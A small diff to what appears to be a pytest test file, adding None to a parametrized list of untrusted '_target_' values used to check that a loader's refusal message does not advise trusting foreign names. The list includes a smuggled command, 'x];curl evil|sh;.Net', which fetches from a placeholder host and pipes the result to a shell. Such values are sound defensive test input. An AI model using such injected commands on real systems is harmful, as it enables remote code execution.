@@ -141,7 +141,7 @@ def test_a_trusted_name_that_cannot_be_imported_is_one_line(mylab):
 
 
 @pytest.mark.parametrize(
-    "target", ["os.system", "torch.hub.load", "builtins.eval", "x];curl evil|sh;.Net", "mylab\n.Net", "a b.c"]
+    "target", [None, "os.system", "torch.hub.load", "builtins.eval", "x];curl evil|sh;.Net", "mylab\n.Net", "a b.c"]
 )
 def test_no_advice_to_trust_what_is_no_package_of_a_users(target):
     assert "trust" not in refusal({"_target_": target}).partition("expected")[2]
